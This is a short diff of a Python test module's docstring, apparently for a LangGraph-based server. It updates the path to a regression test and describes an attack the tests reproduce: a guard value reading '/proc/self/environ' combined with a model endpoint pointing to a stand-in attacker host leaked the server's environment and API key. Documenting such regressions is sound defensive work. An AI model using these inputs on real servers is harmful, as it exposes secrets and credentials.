@@ -3,7 +3,7 @@ the server's `UNVEIL_FILE_ROOTS` and endpoints only those the server allows (`gr
 
 The attack these reproduce: `guard: "template=/proc/self/environ"` with `model: "openai:x@http://attacker/v1"`
 made the server send its environment, with its custom-endpoint key, to the caller. The real `langgraph dev` run of
-it is `tests/test_langgraph_dev.py::test_a_context_cannot_read_server_files_or_choose_an_endpoint`.
+it is `tests/graphs/test_langgraph_dev.py::test_a_context_cannot_read_server_files_or_choose_an_endpoint`.
 """
 
 from __future__ import annotations
